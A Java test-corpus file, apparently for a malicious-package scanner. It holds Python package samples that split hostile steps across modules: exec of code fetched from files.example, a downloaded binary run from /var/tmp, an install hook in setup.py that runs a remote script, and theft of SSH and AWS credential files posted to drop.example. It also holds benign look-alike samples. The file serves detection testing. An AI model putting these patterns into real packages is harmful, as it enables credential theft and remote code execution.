package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What one file of a package takes and another uses: neither tells anything alone. */
final class PythonModules {
  private static final String TEXT =
      "cHJpbnQoJ2luZXJ0JykKcHJpbnQoJ2luZXJ0JykKcHJpbnQoJ2luZXJ0JykKcHJpbnQoJ2luZXJ0JykK";

  private PythonModules() {}

  static List<Sample> all() {
    return List.of(
        wheel(
                "a function of another file fetches what is run",
                "from .net import latest\nexec(latest())\n")
            .with(
                "sample/net.py",
                """
                import urllib.request
                def latest():
                    return urllib.request.urlopen('https://files.example/latest').read().decode()
                """),
        wheel(
                "a class decodes what a third file holds",
                "from .loader import Loader\nLoader().load()\n")
            .with("sample/data.py", "TEXT = '" + TEXT + "'\n")
            .with(
                "sample/codec.py",
                """
                import base64
                class Codec:
                    def decode(self, text):
                        return base64.b64decode(text)
                """)
            .with(
                "sample/loader.py",
                """
                from .codec import Codec
                from .data import TEXT
                class Loader:
                    def __init__(self):
                        self.codec = Codec()
                    def source(self):
                        return self.codec.decode(TEXT)
                    def load(self):
                        exec(self.source(), {})
                """),
        wheel("a package gives on what its modules do under other names", "from . import boot\n")
            .with(
                "sample/lib/__init__.py",
                "from .http import download as pull\nfrom .place import *\n")
            .with(
                "sample/lib/http.py",
                """
                from urllib.request import urlopen
                def download(address):
                    return urlopen(address).read()
                """)
            .with("sample/lib/place.py", "PLACE = '/var/tmp/sample-agent'\n")
            .with(
                "sample/boot.py",
                """
                import os, subprocess
                from sample.lib import pull, PLACE
                with open(PLACE, 'wb') as out:
                    out.write(pull('https://files.example/agent'))
                os.chmod(PLACE, 0o755)
                subprocess.Popen([PLACE])
                """),
        wheel(
                "letters are counted back by a function of another file",
                "from sample import shift\nexec(shift.back('wypu{/.puly{.0', 7))\n")
            .with(
                "sample/shift.py",
                """
                def back(text, by):
                    out = []
                    for letter in text:
                        out.append(chr(ord(letter) - by))
                    return ''.join(out)
                """),
        wheel(
                "a class of another file gathers, another sends",
                "from .work import Worker\nWorker().start()\n")
            .with(
                "sample/settings.py",
                """
                class Settings:
                    base = 'https://drop.example/'
                    @classmethod
                    def address(cls):
                        return cls.base + 'in'
                """)
            .with(
                "sample/gather.py",
                """
                import os
                def files():
                    return [open(os.path.expanduser(p)).read() for p in ('~/.ssh/id_rsa', '~/.aws/credentials')]
                """)
            .with(
                "sample/work.py",
                """
                import threading, requests
                from .settings import Settings
                from .gather import files
                class Worker(threading.Thread):
                    def run(self):
                        for each in files():
                            requests.post(Settings.address(), data={'text': each})
                """),
        new Sample(
            "the hook of setup.py lies in a folder beside it",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    """
                    from setuptools import setup
                    from setuptools.command.install import install
                    from support import hooks
                    class Install(install):
                        def run(self):
                            install.run(self)
                            hooks.after()
                    setup(name='sample', version='1.0', cmdclass={'install': Install})
                    """)
                .file("support/__init__.py", "")
                .file(
                    "support/hooks.py",
                    """
                    import subprocess, sys
                    from . import remote
                    def after():
                        subprocess.Popen([sys.executable, '-c', remote.script()])
                    """)
                .file(
                    "support/remote.py",
                    """
                    import http.client
                    def script():
                        connection = http.client.HTTPSConnection('files.example')
                        connection.request('GET', '/s')
                        return connection.getresponse().read().decode()
                    """)));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        wheel(
                "a client in one file, a renderer of templates in another",
                "from .render import render\nfrom .client import get\nBANNER = render('BANNER = 1')\n")
            .with(
                "sample/client.py",
                """
                import urllib.request
                def get(address):
                    return urllib.request.urlopen(address).read()
                """)
            .with(
                "sample/render.py",
                """
                def render(text):
                    names = {}
                    exec(compile(text, 'template', 'exec'), names)
                    return names
                """),
        wheel(
                "credentials are read by one file and signed with by another",
                "from .client import Client\n")
            .with(
                "sample/credentials.py",
                """
                import os
                def token():
                    return os.environ.get('SAMPLE_TOKEN') or open(os.path.expanduser('~/.config/sample')).read()
                """)
            .with(
                "sample/client.py",
                """
                import requests
                from .credentials import token
                class Client:
                    def jobs(self):
                        return requests.get('https://api.sample.example/jobs', headers={'Authorization': token()}).json()
                """),
        wheel(
                "requests are counted by what replaces a method of their library",
                "from . import counting\n")
            .with(
                "sample/counting.py",
                """
                import requests
                _send = requests.Session.send
                COUNT = [0]
                def send(self, request, **options):
                    COUNT[0] += 1
                    answer = _send(self, request, **options)
                    print(request.url, answer.status_code)
                    return answer
                requests.Session.send = send
                """));
  }

  private static Sample wheel(String name, String top) {
    return Sample.imported(name, top);
  }
}
